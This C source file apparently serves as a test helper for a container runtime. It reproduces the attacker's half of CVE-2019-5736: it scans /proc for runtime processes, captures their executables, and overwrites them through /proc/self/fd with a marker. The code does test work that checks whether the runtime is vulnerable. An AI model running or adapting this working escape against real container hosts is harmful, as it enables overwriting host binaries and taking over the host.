/*
 * CVE-2019-5736, the attacker's half, as the published exploit did it. Runs
 * inside a container (built static by the tests) while something makes a
 * runtime process in the same pid namespace execve a script whose first
 * line is `#!/proc/self/exe`.
 *
 *   exe_overwrite [SECONDS]
 *
 * Phase 1, until the file /go ($EXE_GO when set) appears (or SECONDS,
 * default 30, pass): every
 * process of this pid namespace is watched, /proc/PID/exe opened with O_PATH
 * as soon as it can be, and every distinct file kept (except this program
 * and /bin/busybox). The next few pids (ns_last_pid + 1..4) are tried on
 * every round as well, so that short-lived processes are not missed.
 * Phase 2: each kept file is re-opened for writing through
 * /proc/self/fd/N, retrying while it is still being executed (ETXTBSY),
 * and a marker appended.
 *
 * Prints READY, then CAPTURED/WROTE/DENIED lines, then DONE.
 *
 *   exe_overwrite --fd N RESULT
 *
 * The second half of the attack from inside the runtime's own process
 * (evil_preload.c opened /proc/self/exe there and exec'd us with it as fd
 * N): forks, the parent exits at once (so whoever waits for it goes on;
 * as pid 1 it stays), the child re-opens fd N for writing as above and appends its
 * WROTE/DENIED line and DONE to the file RESULT.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX 64

struct kept {
    int fd;
    dev_t dev;
    ino_t ino;
    char link[256];
};

static struct kept kept[MAX];
static int nkept;
static struct stat self_st, busybox_st;

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static void try_pid(int pid) {
    char path[64];
    struct stat st;
    int fd, i;
    if (pid == getpid() || nkept >= MAX) return;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) return;
    if (fstat(fd, &st) < 0 ||
        (st.st_dev == self_st.st_dev && st.st_ino == self_st.st_ino) ||
        (st.st_dev == busybox_st.st_dev && st.st_ino == busybox_st.st_ino)) {
        close(fd);
        return;
    }
    for (i = 0; i < nkept; i++) {
        if (kept[i].dev == st.st_dev && kept[i].ino == st.st_ino) {
            close(fd);
            return;
        }
    }
    kept[nkept].fd = fd;
    kept[nkept].dev = st.st_dev;
    kept[nkept].ino = st.st_ino;
    ssize_t n = readlink(path, kept[nkept].link, sizeof kept[nkept].link - 1);
    kept[nkept].link[n > 0 ? n : 0] = 0;
    printf("CAPTURED pid=%d link=%s\n", pid, kept[nkept].link);
    fflush(stdout);
    nkept++;
}

static int last_pid(void) {
    char buf[32];
    int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    ssize_t n;
    if (fd < 0) return -1;
    n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return -1;
    buf[n] = 0;
    return atoi(buf);
}

static void report(const char *result, const char *line) {
    int fd = open(result, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
    if (fd < 0) return;
    if (write(fd, line, strlen(line)) < 0) {}
    close(fd);
}

static int writer(int fd, const char *result) {
    char path[64], line[512], link[256];
    double stop = now() + 15;
    int w = -1;
    ssize_t n;
    /* Not as pid 1: its exit would end the pid namespace and us with it. */
    if (getpid() != 1) {
        if (fork() != 0) _exit(0);
        setsid();
    }
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    n = readlink(path, link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    while (now() < stop) {
        w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w >= 0 || errno != ETXTBSY) break;
        usleep(1000);
    }
    if (w < 0) {
        snprintf(line, sizeof line, "DENIED link=%s errno=%d (%s)\n", link, errno, strerror(errno));
    } else if (write(w, "\nBERTH-PWNED\n", 13) == 13) {
        snprintf(line, sizeof line, "WROTE link=%s\n", link);
    } else {
        snprintf(line, sizeof line, "DENIED link=%s write errno=%d (%s)\n", link, errno, strerror(errno));
    }
    report(result, line);
    report(result, "DONE\n");
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 4 && strcmp(argv[1], "--fd") == 0) return writer(atoi(argv[2]), argv[3]);
    double limit = argc > 1 ? atof(argv[1]) : 30;
    double end = now() + limit;
    const char *go = getenv("EXE_GO") ? getenv("EXE_GO") : "/go";
    int i;
    if (stat("/proc/self/exe", &self_st) < 0) return 2;
    if (stat("/bin/busybox", &busybox_st) < 0) memset(&busybox_st, 0, sizeof busybox_st);
    printf("READY\n");
    fflush(stdout);
    while (now() < end && access(go, F_OK) != 0) {
        int last = last_pid();
        for (i = 1; i <= 4 && last > 0; i++) try_pid(last + i);
        try_pid(last);
        DIR *d = opendir("/proc");
        if (!d) continue;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid > 0) try_pid(pid);
        }
        closedir(d);
    }
    for (i = 0; i < nkept; i++) {
        char path[64];
        int w = -1;
        double stop = now() + 10;
        snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i].fd);
        while (now() < stop) {
            w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w >= 0 || errno != ETXTBSY) break;
            usleep(1000);
        }
        if (w < 0) {
            printf("DENIED link=%s errno=%d (%s)\n", kept[i].link, errno, strerror(errno));
        } else {
            ssize_t n = write(w, "\nBERTH-PWNED\n", 13);
            if (n == 13)
                printf("WROTE link=%s\n", kept[i].link);
            else
                printf("DENIED link=%s write errno=%d (%s)\n", kept[i].link, errno, strerror(errno));
            close(w);
        }
    }
    printf("DONE kept=%d\n", nkept);
    fflush(stdout);
    return 0;
}
